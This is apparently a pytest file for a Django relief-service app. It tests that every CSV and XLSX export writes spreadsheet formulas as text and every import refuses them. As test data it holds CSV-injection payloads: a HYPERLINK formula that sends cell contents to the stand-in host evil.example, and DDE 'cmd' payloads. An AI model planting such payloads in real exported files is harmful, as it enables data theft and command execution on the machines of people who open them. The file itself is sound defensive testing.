"""Spreadsheet formulas (OWASP CSV injection): every export writes them as text, every import
refuses them by row and column, and numbers and phone numbers stay as they are."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from songnuan import formulas
from songnuan.accounts import audit
from songnuan.leads import rewards
from songnuan.leads import services as lead_services
from songnuan.leads.models import ClaimStatus, LeadStatus, Outcome, RewardRule
from songnuan.network import transfer
from songnuan.places import importer as place_importer
from songnuan.tracing import imports as report_imports
from songnuan.tracing.models import Announcement
from songnuan.weather.importing import parse_csv
from tests.factories import SHINAN, district, make_site
from tests.leads.factories import SHINAN_STATION_SQUARE, report
from tests.tracing.factories import admit_unidentified

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
PHONE = "+86 532 8888 6666"


@pytest.mark.parametrize(("text", "runs"), [
    (LINK, True), ("+cmd|' /C calc'!A0", True), ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(A1:A9)", True), ("\t=1+1", True), ("\r=1+1", True), ("＝HYPERLINK(1)", True),
    ("＋1", True), ("－1", True), ("＠SUM(1)", True), ("-", False), ("+", False),
    ("-12.5", False), ("-3", False), (PHONE, False), ("+86-532-88886666", False),
    ("+86 (532) 8888 6666", False), ("0532-12345", False), ("香港中路1号", False), ("", False),
    ("'=1+1", False), ("a=1", False),
])
def test_the_rule_tells_formulas_from_numbers_and_phone_numbers(text, runs):
    assert formulas.is_formula(text) is runs
    assert formulas.neutralise(text) == ("'" + text if runs else text)


def test_numbers_are_written_as_numbers():
    assert formulas.safe_row([-3, -1.5, Decimal("-2"), None]) == [-3, -1.5, Decimal("-2"), None]


# ------------------------------------------------------------------ every export


def _planted_site(cast):
    make_site("注入测试站", address=LINK, phone=PHONE)
    return cast.shinan_admin


def _planted_announcement(cast):
    case = admit_unidentified(cast.shinan_substation, by=cast.shinan_station)
    Announcement.objects.create(case=case, title=LINK, text="@SUM(1,2)", features="-1+cmd|x",
                                found_place="\t=1", found_on=datetime.date(2026, 12, 1),
                                contact=PHONE)
    return None


def _planted_payout(cast):
    RewardRule.objects.create(outcome=Outcome.HELPED_TO_SITE, amount_yuan=Decimal("50"))
    lead = report(lat=SHINAN_STATION_SQUARE[0], lon=SHINAN_STATION_SQUARE[1],
                  reporter_phone="13912345678")
    lead_services.set_status(lead, LeadStatus.RESOLVED, by=cast.city_admin,
                             outcome=Outcome.HELPED_TO_SITE)
    claim = rewards.start_claim(lead)
    claim.status = ClaimStatus.AWAITING_APPROVAL
    claim.save()
    claim = rewards.approve(claim, by=cast.shinan_admin)
    rewards.record_payout(claim, by=cast.shinan_admin, method="wechat", reference=LINK)
    return cast.shinan_admin


def _planted_audit_event(cast):
    audit.record("export", changes={"what": LINK}, object_repr=LINK, user=cast.shinan_admin)
    return cast.city_admin


EXPORTS = [
    pytest.param("/network/sites/export.csv", _planted_site, id="sites.csv"),
    pytest.param("/network/sites/export.xlsx", _planted_site, id="sites.xlsx"),
    pytest.param("/xunqin/export.csv", _planted_announcement, id="announcements.csv"),
    pytest.param("/leads/rewards/ledger.csv", _planted_payout, id="reward-ledger.csv"),
    pytest.param("/accounts/audit/export.xlsx", _planted_audit_event, id="audit-log.xlsx"),
]


def cells(response) -> list:
    """Every cell of a CSV or XLSX answer; an XLSX formula cell comes back as ('formula', …)."""
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [("formula", cell.value) if cell.data_type == "f" else cell.value
            for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(("url", "plant"), EXPORTS)
def test_every_export_writes_formulas_as_text(cast, client, url, plant):
    user = plant(cast)
    if user is not None:
        client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200
    found = cells(response)
    assert not [cell for cell in found if isinstance(cell, tuple)], "a live formula cell"
    assert not [cell for cell in found if isinstance(cell, str) and formulas.is_formula(cell)]
    assert any(isinstance(cell, str) and cell.startswith("'" + LINK[:10]) for cell in found)


def test_the_site_export_keeps_phone_numbers_and_reads_back_the_same(cast, client):
    make_site("电话测试站", phone=PHONE)
    client.force_login(cast.shinan_admin)
    found = cells(client.get("/network/sites/export.csv"))
    assert PHONE in found


# ------------------------------------------------------------------ every import


def test_the_site_import_refuses_a_formula_by_row_and_column(cast):
    table = [{"name": "注入站", "level": "relief", "lat": "36.066", "lon": "120.383",
              "address": LINK, "phone": PHONE, "district": SHINAN}]
    result = transfer.import_sites(table, cast.shinan_admin)
    assert [(e.row, e.field) for e in result.errors] == [(2, "address")]
    assert "公式" in result.errors[0].message or "formula" in result.errors[0].message
    assert not result.created


def test_the_site_import_page_shows_the_refused_cell(cast, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    content = ("name,level,lat,lon,phone\n注入站,relief,36.066,120.383,@SUM(1)\n").encode()
    client.force_login(cast.shinan_admin)
    page = client.post("/network/sites/import/", {
        "file": SimpleUploadedFile("sites.csv", content, "text/csv")}).content.decode()
    assert "phone" in page and "@" in page
    from songnuan.network.models import Site
    assert not Site.objects.filter(name="注入站").exists()


def test_the_place_import_refuses_a_formula(cast):
    table = [{"name": "＝HYPERLINK(1)", "lat": "36.066", "lon": "120.383"}]
    result = place_importer.import_places(table, cast.shinan_admin)
    assert [(e.row, e.field) for e in result.errors] == [(2, "name")]
    assert not result.created


def test_the_missing_report_import_refuses_a_formula_and_keeps_a_phone(cast):
    table = [{"record_id": "XQ-1", "name": "张三", "reporter_name": "李四",
              "reporter_phone": "13912345678", "features": "-1+cmd|' /C calc'!A0"}]
    result = report_imports.import_reports(table, district=district(SHINAN),
                                           today=timezone.localdate())
    assert [(e.row, e.column) for e in result.errors] == [
        (2, report_imports.column_label("features"))]
    assert not result.created


def test_the_weather_csv_refuses_a_formula_but_takes_negative_temperatures(db):
    header = "district,starts_at,ends_at,min_c,max_c\n"
    good = parse_csv(header + "370202,2026-12-04T20:00,2026-12-05T08:00,-12,-3\n")
    assert not good.errors
    bad = parse_csv(header + "=HYPERLINK(1),2026-12-04T20:00,2026-12-05T08:00,-12,-3\n")
    assert bad.errors and "district" in str(bad.errors[0])
